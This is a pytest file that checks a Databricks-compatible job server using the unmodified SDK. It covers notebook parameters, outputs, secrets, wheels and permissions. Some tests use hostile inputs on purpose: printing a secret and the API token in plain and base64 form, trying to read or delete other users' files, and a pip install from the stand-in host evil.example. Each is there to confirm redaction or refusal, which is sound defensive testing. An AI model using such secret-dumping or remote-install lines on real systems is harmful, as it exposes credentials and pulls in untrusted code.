"""The unmodified Databricks SDK on notebooks in jobs: what they can do, what is kept of them, and what they cannot."""

import io
import json
import uuid
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import nbformat
import pytest
from databricks.sdk import WorkspaceClient
from databricks.sdk.errors import BadRequest, InvalidParameterValue, NotFound, NotImplemented
from databricks.sdk.service import compute
from databricks.sdk.service.catalog import VolumeType
from databricks.sdk.service.jobs import (
    JobEnvironment,
    JobParameterDefinition,
    NotebookTask,
    PythonWheelTask,
    Run,
    RunLifeCycleState,
    RunOutput,
    RunResultState,
    SparkPythonTask,
    SubmitTask,
    Task,
    TaskDependency,
    ViewsToExport,
)
from databricks.sdk.service.workspace import ImportFormat

from tests.servers import Server, wait_until
from tests.wheels import make_wheel

SUCCESS, FAILED = RunResultState.SUCCESS, RunResultState.FAILED
LONG = timedelta(seconds=120)
BETWEEN = "\n\n# COMMAND ----------\n\n"


@dataclass
class Desk:
    """A server, somebody's client and home, and a volume."""

    server: Server
    w: WorkspaceClient
    name: str
    volume: str

    @property
    def home(self) -> str:
        """Where their notebooks are."""
        return f"/Users/{self.name}"

    def wrote(self, *cells: str, name: str = "") -> str:
        """A notebook of theirs; cells that begin with % are magic."""
        magic = ["\n".join(f"# MAGIC {line}" for line in c.split("\n")) if c.startswith("%") else c for c in cells]
        path = f"{self.home}/{name or 'n' + uuid.uuid4().hex[:8]}"
        source = "# Databricks notebook source\n" + BETWEEN.join(magic)
        self.w.workspace.upload(f"{path}.py", io.BytesIO(source.encode()), format=ImportFormat.AUTO, overwrite=True)
        return path

    def ran(self, *cells: str, **parameters: str) -> RunOutput:
        """What became of a notebook that was run once."""
        task = NotebookTask(notebook_path=self.wrote(*cells), base_parameters=parameters or None)
        return self.output(self.done(SubmitTask("a", notebook_task=task)))

    def done(self, *tasks: SubmitTask) -> Run:
        """A run that was submitted, when it has ended; the SDK's own waiter sleeps for seconds."""
        run_id = self.w.jobs.submit(tasks=list(tasks)).run_id
        ended = RunLifeCycleState.TERMINATED
        return wait_until(
            lambda: run if (run := self.w.jobs.get_run(run_id)).state.life_cycle_state is ended else None, timeout_s=120
        )

    def output(self, run: Run, key: str = "a") -> RunOutput:
        """Of the last attempt at a task."""
        return self.w.jobs.get_run_output([task for task in run.tasks or () if task.task_key == key][-1].run_id)

    def notebook(self, output: RunOutput) -> Any:
        """The notebook that ran, with its outputs."""
        path = f"/api/millpond/jobs/runs/notebook?run_id={output.metadata.run_id}"
        status, told = self.server.call("GET", path, token=self.w.config.token)
        assert status == 200, told
        nbformat.validate(told)
        return nbformat.reads(json.dumps(told), as_version=4)


@pytest.fixture(scope="module")
def desk(any_server: Server) -> Desk:
    name = f"nora-{uuid.uuid4().hex[:6]}@x.org"
    w = WorkspaceClient(host=any_server.url, token=any_server.new_user(name), auth_type="pat")
    catalog = f"nb_{uuid.uuid4().hex[:8]}"
    w.catalogs.create(catalog)
    w.schemas.create("s", catalog)
    w.volumes.create(catalog, "s", "v", VolumeType.MANAGED)
    return Desk(server=any_server, w=w, name=name, volume=f"/Volumes/{catalog}/s/v")


def texts(notebook: Any) -> str:
    """All that its cells printed."""
    outputs = [output for cell in notebook.cells for output in cell.get("outputs", ())]
    return "".join(output.text for output in outputs if output.output_type == "stream")


def test_a_notebook_takes_parameters_and_ends_with_a_value(desk: Desk) -> None:
    path = desk.wrote(
        "%md\n# Report", "dbutils.widgets.text('month', '1')\ndbutils.widgets.dropdown('plan', 'a', ['a', 'b'])",
        "gone = 1\ndbutils.library.restartPython()\nraise ValueError('not reached')",
        "assert 'gone' not in globals()\nmonth = int(dbutils.widgets.get('month'))", "month * 2",
        "import json\ntry:\n    dbutils.notebook.exit(json.dumps([month, dbutils.widgets.getAll()]))\n"
        "except Exception:\n    pass",
        "1 / 0",
    )  # fmt: skip
    job = desk.w.jobs.create(
        name="report",
        parameters=[JobParameterDefinition(name="plan", default="b")],
        tasks=[Task("a", notebook_task=NotebookTask(path, base_parameters={"month": "4", "run": "{{job.run_id}}"}))],
    ).job_id
    run = desk.w.jobs.run_now_and_wait(job, timeout=LONG)
    output = desk.output(run)
    assert run.state.result_state is SUCCESS, output.error_trace
    result = json.loads(output.notebook_output.result)
    assert result == [4, {"month": "4", "plan": "b", "run": str(run.run_id)}]
    again = desk.w.jobs.run_now_and_wait(job, notebook_params={"month": "7"}, timeout=LONG)
    assert json.loads(desk.output(again).notebook_output.result)[0] == 7
    notebook = desk.notebook(output)
    assert [cell.cell_type for cell in notebook.cells] == ["markdown", *["code"] * 6]
    assert notebook.cells[4].outputs[0].data["text/plain"] == "8"
    assert [cell.outputs for cell in notebook.cells[5:]] == [[], []]


def test_outputs_are_kept_as_rich_as_they_were_and_exported_as_a_page(desk: Desk) -> None:
    output = desk.ran(
        "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\ndisplay(df)\ndf",
        "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
        "displayHTML('<h1>big</h1>')\nfrom IPython.display import Markdown, display as show\nshow(Markdown('*m*'))",
        "%sh\necho from the shell; pwd",
        "await __import__('asyncio').sleep(0)\nimport sys\nprint('err', file=sys.stderr)\n!echo bang",
    )
    assert output.metadata.state.result_state is SUCCESS, output.error_trace
    frame, plot, shown, _, _ = desk.notebook(output).cells
    assert [each.output_type for each in frame.outputs] == ["display_data", "execute_result"]
    assert all("<table" in each.data["text/html"] for each in frame.outputs)
    assert [list(each.data) for each in plot.outputs if "image/png" in each.get("data", {})]
    assert [list(each.data)[-1] for each in shown.outputs] == ["text/html", "text/markdown"]
    assert "from the shell" in texts(desk.notebook(output))
    assert {"err", "bang"} <= set(texts(desk.notebook(output)).split())
    assert "from the shell" in output.logs
    [view] = desk.w.jobs.export_run(output.metadata.run_id, views_to_export=ViewsToExport.ALL).views
    assert "data:image/png;base64," in view.content
    assert "&lt;h1&gt;big&lt;/h1&gt;" in view.content
    desk.w.jobs.delete_run(desk.w.jobs.get_run(output.metadata.run_id).job_run_id)
    with pytest.raises(NotFound):
        desk.w.jobs.export_run(output.metadata.run_id)


def test_a_cell_that_fails_ends_the_notebook_and_leaves_its_traceback(desk: Desk) -> None:
    output = desk.ran("print('before')", "def f(x):\n    return 1 / x\n\nf(0)", "print('after')")
    assert output.metadata.state.result_state is FAILED
    assert output.error == "ZeroDivisionError: division by zero"
    assert "return 1 / x" in output.error_trace
    assert "before" in output.logs
    assert "after" not in output.logs
    notebook = desk.notebook(output)
    assert notebook.cells[1].outputs[-1].ename == "ZeroDivisionError"
    assert "SyntaxError" in desk.ran("x = ").error
    assert desk.ran("%scala\nval x = 1").error.startswith("NotImplementedError: Cells in Scala")
    assert "SystemExit" in desk.ran("import sys\nsys.exit(3)").error
    assert "ValueError" in desk.ran("%run ./x no-value").error
    loud = desk.ran("print('x' * 9_000_000)", "print('late')", "raise ValueError('y' * 1_000_000)")
    assert "outputs are larger than 8 MiB" in texts(desk.notebook(loud))
    assert "late" in loud.logs
    assert len(desk.notebook(loud).cells[2].outputs[-1].evalue) == 100_000
    assert desk.ran("raise ValueError('half \\ud800 and \\0')").error == "ValueError: half ? and \ufffd"


def test_notebooks_hand_values_on_and_query_tables(desk: Desk) -> None:
    table = desk.volume.split("/")[2] + ".s.t"
    w = desk.w
    first = desk.wrote(
        f"spark.range(3).write.saveAsTable('{table}')\ndisplay(spark.table('{table}'))",
        f"%sql\nSELECT count(*) AS n FROM {table};\nSELECT max(id) AS most FROM {table}",
        "dbutils.jobs.taskValues.set('most', int(_sqldf.first()[0]))",
    )
    second = desk.wrote("dbutils.notebook.exit(dbutils.jobs.taskValues.get('first', 'most'))")
    sql = f"{desk.home}/q"
    w.workspace.upload(f"{sql}.sql", io.BytesIO(f"SELECT id FROM {table} WHERE id > 1".encode()))
    run = desk.done(
        SubmitTask("first", notebook_task=NotebookTask(first)),
        SubmitTask("second", depends_on=[TaskDependency("first")], notebook_task=NotebookTask(second)),
        SubmitTask("sql", depends_on=[TaskDependency("first")], notebook_task=NotebookTask(f"{sql}.sql")),
    )
    assert run.state.result_state is SUCCESS, [desk.output(run, key).error_trace for key in ("first", "second", "sql")]
    assert desk.output(run, "second").notebook_output.result == "2"
    told = desk.notebook(desk.output(run, "sql"))
    assert "<td>2</td>" in told.cells[0].outputs[0].data["text/html"]


def test_notebooks_run_notebooks_in_one_namespace_or_in_their_own(desk: Desk) -> None:
    desk.w.workspace.mkdirs(f"{desk.home}/lib")
    desk.wrote("suffix = dbutils.widgets.get('suffix')", name="lib/names")
    desk.wrote('%run ./names $suffix="!"', "def greet(name):\n    return 'hello ' + name + suffix", name="lib/greet")
    desk.wrote("name = dbutils.widgets.get('name')\nassert 'greet' not in globals()\nprint('inner says', name)",
               "dbutils.notebook.exit(name.upper())", name="shout")  # fmt: skip
    desk.wrote("raise ValueError('bad')", name="breaks")
    desk.wrote("import time\ntime.sleep(600)", name="sleeps")
    output = desk.ran(
        "%run ./lib/greet",
        "said = greet('ann')",
        "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(2) as pool:\n"
        "    both = [*pool.map(lambda name: dbutils.notebook.run('shout', 60, {'name': name}), ['a', 'b'])]",
        "said2 = []\nfor name, limit in (('breaks', 60), ('sleeps', 1), ('none', 1)):\n    try:\n"
        "        dbutils.notebook.run('./' + name, limit)\n    except Exception as error:\n"
        "        said2.append(type(error).__name__)",
        "dbutils.notebook.exit([said, both, said2])",
    )
    assert output.metadata.state.result_state is SUCCESS, output.error_trace
    failures = ["NotebookRunFailed", "TimeoutError", "FileNotFoundError"]
    assert output.notebook_output.result == str(["hello ann!", ["A", "B"], failures])
    assert "inner says a" in output.logs


def test_files_and_secrets_are_at_hand_and_secrets_are_not_shown(desk: Desk) -> None:
    scope = f"s-{uuid.uuid4().hex[:8]}"
    desk.w.secrets.create_scope(scope)
    desk.w.secrets.put_secret(scope, "key", string_value="hunter2-hunter2")
    output = desk.ran(
        f"root = '{desk.volume}/fs'\ndbutils.fs.mkdirs(root)\ndbutils.fs.put(root + '/a.txt', 'hello', True)",
        "dbutils.fs.cp(root + '/a.txt', root + '/deep/b.txt')\ndbutils.fs.cp(root, root + '2', recurse=True)\n"
        "dbutils.fs.mv('dbfs:' + root + '2/a.txt', 'file:/tmp/x' if False else root + '2/c.txt')",
        "names = sorted(each.name for each in dbutils.fs.ls(root + '2'))\nhead = dbutils.fs.head(root + '/a.txt', 4)",
        f"%fs ls {desk.volume}/fs",
        "dbutils.fs.rm(root, recurse=True)\ntry:\n    dbutils.fs.ls(root)\nexcept FileNotFoundError:\n"
        "    names.append('gone')",
        f"value = dbutils.secrets.get('{scope}', 'key')\nprint(value)\nimport os, base64\n"
        "print(os.environ['DATABRICKS_TOKEN'], base64.b64encode(value.encode()).decode())\nvalue",
        f"keys = [each.key for each in dbutils.secrets.list('{scope}')]",
        "dbutils.notebook.exit([names, head, keys, len(value), value])",
    )  # fmt: skip
    assert output.metadata.state.result_state is SUCCESS, output.error_trace
    expected = [["c.txt", "deep/", "gone"], "hell", ["key"], 15]
    assert output.notebook_output.result == str([*expected, "[REDACTED]"])
    told = json.dumps(desk.notebook(output))
    for place in (told, output.logs):
        assert "hunter2" not in place
        assert "aHVudGVyMi" not in place
        assert place.count("[REDACTED]") >= 3
    assert f"dbfs:{desk.volume}/fs/a.txt\t5" in texts(desk.notebook(output))
    broken = desk.ran(f"raise ValueError(dbutils.secrets.get('{scope}', 'key'))")
    assert (broken.error, "hunter2" in broken.error_trace) == ("ValueError: [REDACTED]", False)


def test_a_notebook_can_lie_in_a_volume_and_a_script_in_the_workspace(desk: Desk) -> None:
    cells = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("dbutils.notebook.exit('from a volume')")])
    path = f"{desk.volume}/n.ipynb"
    desk.w.files.upload(path, io.BytesIO(nbformat.writes(cells).encode()))
    desk.w.workspace.upload(f"{desk.home}/s.py", io.BytesIO(b"print('a script')"), format=ImportFormat.AUTO)
    run = desk.done(
        SubmitTask("a", notebook_task=NotebookTask(path)),
        SubmitTask("b", spark_python_task=SparkPythonTask(f"/Workspace{desk.home}/s.py")),
    )
    assert desk.output(run).notebook_output.result == "from a volume"
    assert desk.output(run, "b").logs == "a script\n"


def test_python_files_beside_a_notebook_can_be_imported(desk: Desk) -> None:
    desk.w.workspace.mkdirs(f"{desk.home}/pkg/sub")
    for name, text in (
        ("aid", "A = 1"),
        ("pkg/__init__", "B = 2"),
        ("pkg/sub/__init__", ""),
        ("pkg/sub/deep", "C = 3"),
    ):
        desk.w.workspace.upload(f"{desk.home}/{name}.py", io.BytesIO(text.encode()), format=ImportFormat.AUTO)
    output = desk.ran(
        "from aid import A\nfrom pkg import B\nfrom pkg.sub.deep import C", "dbutils.notebook.exit(A + B + C)"
    )
    assert output.notebook_output.result == "6", output.error_trace


LOOKS = (
    "%pip install -q peppercorn==0.6\nimport peppercorn",
    "try:\n    import pandas\n    there = True\nexcept ImportError:\n    there = False",
    "dbutils.notebook.exit([peppercorn.__name__, there])",
)


def test_packages_are_installed_before_the_notebook_begins_beside_the_servers(desk: Desk) -> None:
    assert desk.ran(*LOOKS).notebook_output.result == "['peppercorn', True]"


@pytest.mark.long
def test_a_notebook_has_the_packages_of_its_environment_and_no_others(desk: Desk) -> None:
    packages = JobEnvironment("six", compute.Environment(environment_version="1", dependencies=["six==1.17.0"]))
    task = SubmitTask("a", environment_key="six", notebook_task=NotebookTask(desk.wrote("import six", *LOOKS)))
    run = desk.w.jobs.submit_and_wait(environments=[packages], tasks=[task], timeout=LONG)
    assert desk.output(run).notebook_output.result == "['peppercorn', False]"


def test_an_entry_point_of_a_wheel_runs_with_what_the_wheel_needs(desk: Desk, tmp_path: Path) -> None:
    info, code = (
        "shoplib-1.0.dist-info",
        "import sys, aidlib, peppercorn\ndef go():\n    print(aidlib.A, sys.argv[1:])\n",
    )
    needs = (
        "Metadata-Version: 2.1\nName: shoplib\nVersion: 1.0\nRequires-Dist: aidlib\nRequires-Dist: peppercorn==0.6\n"
    )
    points = {f"{info}/entry_points.txt": "[console_scripts]\nrun-shop = shoplib:go\n", f"{info}/METADATA": needs}
    for wheel in (
        make_wheel(tmp_path, "shoplib", "1.0", {"shoplib.py": code, **points}),
        make_wheel(tmp_path, "aidlib", "2.0", {"aidlib.py": "A = 'aid'\n"}),
    ):
        desk.w.files.upload(f"{desk.volume}/{wheel.name}", io.BytesIO(wheel.read_bytes()))
    wheels = [f"{desk.volume}/{name}-py3-none-any.whl" for name in ("shoplib-1.0", "aidlib-2.0")]
    task = PythonWheelTask(package_name="shoplib", entry_point="run-shop", named_parameters={"day": "{{job.run_id}}"})
    by_name = PythonWheelTask(package_name="shoplib", entry_point="go", parameters=["x"])
    none = PythonWheelTask(package_name="shoplib", entry_point="none")
    libraries = [compute.Library(whl=path) for path in wheels]
    run = desk.done(
        SubmitTask("a", python_wheel_task=task, libraries=libraries),
        SubmitTask("b", python_wheel_task=by_name, libraries=libraries),
        SubmitTask("c", python_wheel_task=none, libraries=libraries),
        SubmitTask("d", python_wheel_task=by_name, libraries=[compute.Library(whl=wheels[0] + "x")]),
    )
    assert desk.output(run).logs == f"aid ['--day={run.run_id}']\n", desk.output(run).error_trace
    assert desk.output(run, "b").logs == "aid ['x']\n"
    assert "no entry point 'none'" in desk.output(run, "c").error
    assert "does not exist" in desk.output(run, "d").error


def test_a_notebook_that_is_ended_leaves_what_it_had(desk: Desk) -> None:
    path = desk.wrote("print('first')", "import time\ntime.sleep(1.1)", "time.sleep(600)")
    run = desk.w.jobs.submit(tasks=[SubmitTask("a", notebook_task=NotebookTask(path))])
    task = desk.w.jobs.get_run(run.run_id).tasks[0].run_id
    address = f"/api/millpond/jobs/runs/notebook?run_id={task}"
    begun = lambda: desk.server.call("GET", address, token=desk.w.config.token)[0] == 200  # noqa: E731 - one question, asked again
    wait_until(begun, timeout_s=60, what="the first cells")
    desk.w.jobs.cancel_run(run.run_id)
    wait_until(lambda: desk.w.jobs.get_run(run.run_id).state.result_state is RunResultState.CANCELED)
    assert "first" in texts(desk.notebook(desk.w.jobs.get_run_output(task)))


def test_a_notebook_runs_with_the_rights_of_whom_it_runs_as_and_writes_no_notebooks(desk: Desk) -> None:
    other = f"olga-{uuid.uuid4().hex[:6]}@x.org"
    theirs = WorkspaceClient(host=desk.server.url, token=desk.server.new_user(other), auth_type="pat")
    theirs.workspace.upload(f"/Users/{other}/private", io.BytesIO(b"1"), format=ImportFormat.RAW)
    denied = desk.ran(
        "from databricks.sdk import WorkspaceClient\nw = WorkspaceClient()\nsaid = []\n"
        f"for act in (lambda: w.workspace.export('/Users/{other}/private'),\n"
        "            lambda: w.workspace.mkdirs('/Users/' + w.current_user.me().user_name + '/x'),\n"
        "            lambda: w.workspace.delete('/Users/' + w.current_user.me().user_name, recursive=True),\n"
        "            lambda: w.jobs.create(name='mine')):\n"
        "    try:\n        act()\n    except Exception as error:\n        said.append(type(error).__name__)",
        "dbutils.notebook.exit([w.current_user.me().user_name, said])",
    )
    assert denied.notebook_output.result == str([desk.name, ["ResourceDoesNotExist", *["PermissionDenied"] * 3]])
    task = SubmitTask("a", notebook_task=NotebookTask(f"/Users/{other}/private"))
    run = desk.done(task)
    assert (run.state.result_state, "does not exist" in desk.output(run).error) == (FAILED, True)
    mine = desk.ran("dbutils.notebook.exit(1)")
    for act in (theirs.jobs.export_run, theirs.jobs.get_run_output):
        with pytest.raises(NotFound):
            act(mine.metadata.run_id)
    path = f"/api/millpond/jobs/runs/notebook?run_id={mine.metadata.run_id}"
    assert desk.server.call("GET", path, token=theirs.config.token)[0] == 404


def test_what_a_notebook_task_does_not_have_is_refused_by_name(desk: Desk) -> None:
    with pytest.raises(NotImplemented, match="warehouse_id"):
        desk.w.jobs.create(tasks=[Task("a", notebook_task=NotebookTask("/x", warehouse_id="starter"))])
    with pytest.raises(InvalidParameterValue, match="path of its code"):
        desk.w.jobs.create(tasks=[Task("a", notebook_task=NotebookTask("x"))])
    script = SparkPythonTask(f"{desk.home}/s.py")
    desk.w.workspace.upload(f"{desk.home}/s.py", io.BytesIO(b"1"), format=ImportFormat.AUTO, overwrite=True)
    run = desk.done(SubmitTask("a", spark_python_task=script))
    with pytest.raises(BadRequest, match="no notebook"):
        desk.w.jobs.export_run(run.tasks[0].run_id)
    assert "only `%pip install`" in desk.ran("%pip install --index-url http://evil.example x").error
